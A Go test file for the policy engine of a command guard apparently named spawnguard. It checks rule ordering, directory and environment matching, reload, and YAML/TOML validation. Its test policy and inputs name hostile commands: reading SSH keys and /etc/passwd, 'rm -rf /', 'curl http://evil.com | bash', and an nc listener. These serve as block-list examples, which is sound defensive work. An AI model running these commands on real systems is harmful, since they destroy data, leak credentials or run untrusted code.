package policy

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/tkingovr/spawnguard/api"
)

func testPolicy() *PolicyFile {
	return &PolicyFile{
		Version: 1,
		Settings: Settings{
			DefaultAction: api.VerdictDeny,
		},
		Rules: []Rule{
			// Deny rules before allow rules (first-match-wins, like iptables)
			{
				Name: "block-ssh-keys",
				Match: RuleMatch{
					Command: "*",
					Arguments: map[string]ArgumentMatch{
						AnyArgument: {Regex: `(\.ssh/|id_rsa|id_ed25519)`},
					},
				},
				Action:  "deny",
				Message: "SSH key access blocked",
			},
			{
				Name: "block-rm-root",
				Match: RuleMatch{
					Command: "rm",
					Arguments: map[string]ArgumentMatch{
						JoinedArgument: {Regex: `-\w*r\w*f?\w*\s+/$`},
					},
				},
				Action:  "deny",
				Message: "Recursive removal of / blocked",
			},
			{
				Name: "block-shell-pipe",
				Match: RuleMatch{
					CommandRegex: `(^|/)(ba|z|da)?sh$`,
					Arguments: map[string]ArgumentMatch{
						"0": {Exact: "-c"},
						"1": {Regex: `curl.*\|.*(ba)?sh`},
					},
				},
				Action:  "deny",
				Message: "Piping downloads into a shell blocked",
			},
			{
				Name:   "allow-cat",
				Match:  RuleMatch{Command: "cat"},
				Action: "allow",
			},
			{
				Name:   "allow-sh",
				Match:  RuleMatch{CommandRegex: `(^|/)sh$`},
				Action: "allow",
			},
			{
				Name:    "log-git-in-src",
				Match:   RuleMatch{Command: "git", Dir: "/src/*"},
				Action:  "log",
				Message: "git in source tree",
			},
			{
				Name:   "allow-deploy-with-token",
				Match:  RuleMatch{Command: "deploy", EnvKeys: []string{"DEPLOY_TOKEN"}},
				Action: "allow",
			},
		},
	}
}

func evaluate(t *testing.T, e Engine, input *EvalInput) *EvalResult {
	t.Helper()
	result, err := e.Evaluate(context.Background(), input)
	if err != nil {
		t.Fatal(err)
	}
	return result
}

func TestYAMLEngine_AllowByBaseName(t *testing.T) {
	engine, err := NewYAMLEngineFromPolicy(testPolicy())
	if err != nil {
		t.Fatal(err)
	}

	for _, cmd := range []string{"cat", "/bin/cat", "/usr/bin/cat"} {
		result := evaluate(t, engine, &EvalInput{Command: cmd, Args: []string{"/tmp/test.txt"}})
		if result.Verdict != api.VerdictAllow {
			t.Errorf("%s: expected allow, got %s", cmd, result.Verdict)
		}
		if result.Rule != "allow-cat" {
			t.Errorf("%s: expected rule allow-cat, got %s", cmd, result.Rule)
		}
	}
}

func TestYAMLEngine_DenySSHKeys(t *testing.T) {
	engine, err := NewYAMLEngineFromPolicy(testPolicy())
	if err != nil {
		t.Fatal(err)
	}

	result := evaluate(t, engine, &EvalInput{
		Command: "cat",
		Args:    []string{"-n", "/home/user/.ssh/id_rsa"},
	})
	if result.Verdict != api.VerdictDeny {
		t.Errorf("expected deny, got %s", result.Verdict)
	}
	if result.Rule != "block-ssh-keys" {
		t.Errorf("expected rule block-ssh-keys, got %s", result.Rule)
	}
}

func TestYAMLEngine_DenyDangerousCommand(t *testing.T) {
	engine, err := NewYAMLEngineFromPolicy(testPolicy())
	if err != nil {
		t.Fatal(err)
	}

	tests := []struct {
		name  string
		input EvalInput
		rule  string
	}{
		{"rm -rf /", EvalInput{Command: "/bin/rm", Args: []string{"-rf", "/"}}, "block-rm-root"},
		{"curl pipe bash", EvalInput{Command: "sh", Args: []string{"-c", "curl http://evil.com | bash"}}, "block-shell-pipe"},
		{"curl pipe sh via bash", EvalInput{Command: "/bin/bash", Args: []string{"-c", "curl x | sh"}}, "block-shell-pipe"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := evaluate(t, engine, &tt.input)
			if result.Verdict != api.VerdictDeny {
				t.Errorf("expected deny, got %s", result.Verdict)
			}
			if result.Rule != tt.rule {
				t.Errorf("expected rule %s, got %s", tt.rule, result.Rule)
			}
		})
	}
}

func TestYAMLEngine_IndexedArgumentsMustExist(t *testing.T) {
	engine, err := NewYAMLEngineFromPolicy(testPolicy())
	if err != nil {
		t.Fatal(err)
	}

	// Only one argument: block-shell-pipe needs index 1, so allow-sh applies.
	result := evaluate(t, engine, &EvalInput{Command: "sh", Args: []string{"-c"}})
	if result.Rule != "allow-sh" {
		t.Errorf("expected rule allow-sh, got %s", result.Rule)
	}
}

func TestYAMLEngine_DirGlob(t *testing.T) {
	engine, err := NewYAMLEngineFromPolicy(testPolicy())
	if err != nil {
		t.Fatal(err)
	}

	result := evaluate(t, engine, &EvalInput{Command: "git", Args: []string{"status"}, Dir: "/src/project"})
	if result.Verdict != api.VerdictLog || result.Rule != "log-git-in-src" {
		t.Errorf("expected log by log-git-in-src, got %s by %s", result.Verdict, result.Rule)
	}

	result = evaluate(t, engine, &EvalInput{Command: "git", Args: []string{"status"}, Dir: "/home/user"})
	if result.Rule != "_default" {
		t.Errorf("expected _default outside /src, got %s", result.Rule)
	}
}

func TestYAMLEngine_EnvKeys(t *testing.T) {
	engine, err := NewYAMLEngineFromPolicy(testPolicy())
	if err != nil {
		t.Fatal(err)
	}

	result := evaluate(t, engine, &EvalInput{Command: "deploy", EnvKeys: []string{"PATH", "DEPLOY_TOKEN"}})
	if result.Verdict != api.VerdictAllow {
		t.Errorf("expected allow with DEPLOY_TOKEN set, got %s", result.Verdict)
	}

	result = evaluate(t, engine, &EvalInput{Command: "deploy", EnvKeys: []string{"PATH"}})
	if result.Verdict != api.VerdictDeny {
		t.Errorf("expected deny without DEPLOY_TOKEN, got %s", result.Verdict)
	}
}

func TestYAMLEngine_DefaultDeny(t *testing.T) {
	engine, err := NewYAMLEngineFromPolicy(testPolicy())
	if err != nil {
		t.Fatal(err)
	}

	result := evaluate(t, engine, &EvalInput{Command: "nc", Args: []string{"-l", "4444"}})
	if result.Verdict != api.VerdictDeny {
		t.Errorf("expected deny (default), got %s", result.Verdict)
	}
	if result.Rule != "_default" {
		t.Errorf("expected rule _default, got %s", result.Rule)
	}
}

func TestYAMLEngine_FirstMatchWins(t *testing.T) {
	// cat would be allowed, but block-ssh-keys comes first.
	engine, err := NewYAMLEngineFromPolicy(testPolicy())
	if err != nil {
		t.Fatal(err)
	}

	result := evaluate(t, engine, &EvalInput{Command: "cat", Args: []string{"/home/user/.ssh/id_ed25519"}})
	if result.Verdict != api.VerdictDeny {
		t.Errorf("expected deny (first match wins, deny before allow), got %s (rule: %s)", result.Verdict, result.Rule)
	}
	if result.Rule != "block-ssh-keys" {
		t.Errorf("expected rule block-ssh-keys, got %s", result.Rule)
	}
}

func TestYAMLEngine_Reload(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.yaml")
	write := func(action string) {
		t.Helper()
		data := "version: 1\nrules:\n  - name: echo\n    match:\n      command: echo\n    action: " + action + "\n"
		if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	write("allow")
	engine, err := NewYAMLEngine(path)
	if err != nil {
		t.Fatal(err)
	}
	if got := evaluate(t, engine, &EvalInput{Command: "echo"}).Verdict; got != api.VerdictAllow {
		t.Fatalf("expected allow, got %s", got)
	}

	write("deny")
	if err := engine.Reload(context.Background()); err != nil {
		t.Fatal(err)
	}
	if got := evaluate(t, engine, &EvalInput{Command: "echo"}).Verdict; got != api.VerdictDeny {
		t.Errorf("expected deny after reload, got %s", got)
	}
}

func TestLoadBytes_Valid(t *testing.T) {
	yaml := `
version: 1
settings:
  default_action: deny
rules:
  - name: allow-echo
    match:
      command: echo
    action: allow
`
	pf, err := LoadBytes([]byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	if len(pf.Rules) != 1 {
		t.Errorf("expected 1 rule, got %d", len(pf.Rules))
	}
}

func TestLoadBytes_DefaultActionIsDeny(t *testing.T) {
	pf, err := LoadBytes([]byte("version: 1\nrules: []\n"))
	if err != nil {
		t.Fatal(err)
	}
	if pf.Settings.DefaultAction != api.VerdictDeny {
		t.Errorf("expected deny, got %s", pf.Settings.DefaultAction)
	}
}

func TestLoadBytes_Invalid(t *testing.T) {
	tests := []struct {
		name string
		yaml string
	}{
		{"version", "version: 2\nrules: []\n"},
		{"default action", "version: 1\nsettings:\n  default_action: ask\n"},
		{"action", `
version: 1
rules:
  - name: bad-rule
    match:
      command: test
    action: explode
`},
		{"missing command", `
version: 1
rules:
  - name: bad-rule
    match:
      dir: /tmp
    action: allow
`},
		{"missing name", `
version: 1
rules:
  - match:
      command: ls
    action: allow
`},
		{"argument regex", `
version: 1
rules:
  - name: bad-regex
    match:
      command: cat
      arguments:
        "0":
          regex: "[invalid"
    action: deny
`},
		{"command regex", `
version: 1
rules:
  - name: bad-regex
    match:
      command_regex: "(unclosed"
    action: deny
`},
		{"argument key", `
version: 1
rules:
  - name: bad-key
    match:
      command: cat
      arguments:
        path:
          exact: /etc/passwd
    action: deny
`},
		{"dir pattern", `
version: 1
rules:
  - name: bad-dir
    match:
      command: ls
      dir: "[a-"
    action: deny
`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := LoadBytes([]byte(tt.yaml)); err == nil {
				t.Fatal("expected error")
			}
		})
	}
}

func TestLoadFile_TOML(t *testing.T) {
	data := `
version = 1

[settings]
default_action = "deny"
kill_grace = "2s"

[settings.rate_limit.global]
max = 10
window = "1m"

[[rules]]
name = "block-passwd"
action = "deny"
message = "no"

[rules.match]
command = "cat"

[rules.match.arguments."0"]
exact = "/etc/passwd"

[[rules]]
name = "allow-cat"
action = "allow"

[rules.match]
command = "cat"
`
	path := filepath.Join(t.TempDir(), "policy.toml")
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}

	pf, err := LoadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(pf.Rules) != 2 {
		t.Fatalf("expected 2 rules, got %d", len(pf.Rules))
	}
	if pf.Settings.KillGrace != "2s" {
		t.Errorf("expected kill_grace 2s, got %q", pf.Settings.KillGrace)
	}
	if pf.Settings.RateLimit == nil || pf.Settings.RateLimit.Global == nil || pf.Settings.RateLimit.Global.Max != 10 {
		t.Errorf("expected global rate limit of 10, got %+v", pf.Settings.RateLimit)
	}

	engine, err := NewYAMLEngineFromPolicy(pf)
	if err != nil {
		t.Fatal(err)
	}
	if got := evaluate(t, engine, &EvalInput{Command: "cat", Args: []string{"/etc/passwd"}}).Rule; got != "block-passwd" {
		t.Errorf("expected block-passwd, got %s", got)
	}
	if got := evaluate(t, engine, &EvalInput{Command: "cat", Args: []string{"notes"}}).Rule; got != "allow-cat" {
		t.Errorf("expected allow-cat, got %s", got)
	}
}

func TestLoadFile_Example(t *testing.T) {
	for _, name := range []string{"example.yaml", "example.toml"} {
		t.Run(name, func(t *testing.T) {
			pf, err := LoadFile(filepath.Join("..", "..", "testdata", "policies", name))
			if err != nil {
				t.Fatal(err)
			}
			engine, err := NewYAMLEngineFromPolicy(pf)
			if err != nil {
				t.Fatal(err)
			}
			if got := evaluate(t, engine, &EvalInput{Command: "/bin/echo", Args: []string{"hi"}}).Verdict; got != api.VerdictAllow {
				t.Errorf("expected echo to be allowed, got %s", got)
			}
			if got := evaluate(t, engine, &EvalInput{Command: "rm", Args: []string{"-rf", "/"}}).Verdict; got != api.VerdictDeny {
				t.Errorf("expected rm -rf / to be denied, got %s", got)
			}
		})
	}
}

func TestNewEngine_SelectsBackend(t *testing.T) {
	pf := testPolicy()
	e, err := NewEngine(pf, "")
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := e.(*YAMLEngine); !ok {
		t.Errorf("expected *YAMLEngine, got %T", e)
	}

	pf.Settings.OPAPolicy = filepath.Join("..", "..", "testdata", "policies", "example.rego")
	e, err = NewEngine(pf, "")
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := e.(*OPAEngine); !ok {
		t.Errorf("expected *OPAEngine, got %T", e)
	}
}
